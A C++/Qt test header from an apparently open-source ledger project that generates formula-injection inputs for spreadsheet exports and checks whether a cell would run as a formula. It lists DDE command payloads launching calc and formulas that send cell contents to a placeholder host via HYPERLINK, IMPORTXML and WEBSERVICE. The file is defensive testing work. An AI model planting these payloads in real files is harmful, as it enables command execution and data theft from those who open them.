// SPDX-FileCopyrightText: Simledger contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QRandomGenerator>
#include <QRegularExpression>
#include <QString>
#include <QStringList>

#include <algorithm>

/// Texts that want to be run by a spreadsheet, and texts of every kind: for whatever writes files.

inline const QString starters = QStringLiteral("=+-@＝＋－＠﹦﹢﹣﹫−\t\r\n") + QChar(0);

/// What may stand in front of a formula without stopping a spreadsheet.
inline QStringList prefixes()
{
    return {QString(),
            QStringLiteral(" "),
            QStringLiteral("   "),
            QStringLiteral("\u00a0"),
            QStringLiteral("\ufeff"),
            QStringLiteral("\u3000"),
            QStringLiteral("\u200b"),
            QStringLiteral("\u200e \u00a0"),
            QStringLiteral("\u2007"),
            QStringLiteral("note\n"),
            QStringLiteral("note\r\n"),
            QStringLiteral("note\r"),
            QStringLiteral("note\n  "),
            QStringLiteral("a\nb\n\u00a0\ufeff"),
            QStringLiteral("note\u2028"),
            QStringLiteral("note\u0085"),
            QStringLiteral("note\v"),
            QStringLiteral("\"quoted\"\n"),
            QStringLiteral("备注，\n\u3000"),
            QStringLiteral("\n"),
            QStringLiteral("\r\n")};
}

inline QStringList hostileTexts()
{
    QStringList all{
        QStringLiteral("=cmd|' /C calc'!A0"),
        QStringLiteral("=HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")"),
        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
        QStringLiteral("+1+1+cmd|' /C calc'!A0"),
        QStringLiteral("-2+3+cmd|' /C calc'!A0"),
        QStringLiteral("=IMPORTXML(CONCAT(\"http://example.invalid\",A1),\"//a\")"),
        QStringLiteral("=WEBSERVICE(\"http://example.invalid\")"),
        QStringLiteral("=1+1\";=1+1;\""),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\r=1+1"),
        QStringLiteral("\n=1+1"),
        QStringLiteral("=\n=\n="),
        QStringLiteral("＝ＳＵＭ（１）"),
        QStringLiteral("="),
        QStringLiteral("-"),
        QStringLiteral("-5"),
        QStringLiteral("+86 138"),
        QStringLiteral("@mention"),
    };
    for (const QString &prefix : prefixes()) {
        for (const QChar starter : starters) {
            const bool lineEnd = starter == u'\r' || starter == u'\n';
            if (lineEnd &&
                prefix.contains(QRegularExpression(QStringLiteral("\\w|[^\\x{0}-\\x{7f}\\s\\p{C}\\p{Z}]"))))
                continue; // an empty line further down harms nobody
            all.append(prefix + starter + QStringLiteral("SUM(1,\"2\")"));
        }
    }
    return all;
}

/// More than 450 of every kind, kept in tests/data/hostile.jsonl: formulas, markup, bidi, controls, paths,
/// CSV, format strings, SQL, very long ones, halves of pairs, combining storms, emoji.
inline QStringList allHostileTexts()
{
    QStringList all;
    QFile file(QStringLiteral(SIMLEDGER_SOURCE_DIR "/tests/data/hostile.jsonl"));
    if (!file.open(QIODevice::ReadOnly))
        return all;
    while (!file.atEnd()) {
        const QJsonDocument line = QJsonDocument::fromJson("[" + file.readLine().trimmed() + "]");
        all.append(line.array().first().toString());
    }
    return all;
}

/// Whether some line of a cell, read naively as a spreadsheet does, begins with what starts a formula. Half a
/// pair of surrogates counts as any other character: regular expressions refuse it.
inline bool spreadsheetWouldRun(QString text)
{
    static const QRegularExpression lineEnd(QStringLiteral("\\r\\n|[\\n\\r\\v\\f\\x{85}\\x{2028}\\x{2029}]"));
    static const QRegularExpression front(QStringLiteral("\\A[\\p{Z}\\p{C}]*[=+\\-@＝＋－＠﹦﹢﹣﹫−]"));
    static const QRegularExpression control(QStringLiteral("\\A[\\p{Z}\\p{Cf}]*[\\t\\x{0}]"));
    static const QRegularExpression firstLineEnd(QStringLiteral("\\A[\\p{Z}\\p{Cf}]*[\\r\\n]"));
    for (QChar &character : text) {
        if (character.isSurrogate())
            character = u'x';
    }
    const QStringList lines = text.split(lineEnd);
    return firstLineEnd.match(text).hasMatch() ||
           std::any_of(lines.begin(), lines.end(), [](const QString &line) {
               return front.match(line).hasMatch() || control.match(line).hasMatch();
           });
}

/// The same for one seed: letters, blanks, signs, hidden characters, halves of pairs, anything.
inline QString randomText(QRandomGenerator &random, int longest)
{
    static const QString pieces = QStringLiteral(
        "abcXYZ019 =+-@,;\"'<>&%/\\.:?#\n\r\t\u00a0\u200b\u200f\u202e\u2066\ufeff中文卡＝é\u0301");
    QString text;
    for (quint32 i = random.bounded(quint32(longest)); i > 0; --i) {
        const quint32 kind = random.bounded(40U);
        if (kind == 0)
            text += QChar(char16_t(random.bounded(0xD800, 0xE000))); // half a surrogate pair
        else if (kind == 1)
            text += QChar::fromUcs4(char32_t(random.bounded(0x10000, 0x10FFFF)));
        else
            text += pieces[random.bounded(pieces.size())];
    }
    return text;
}
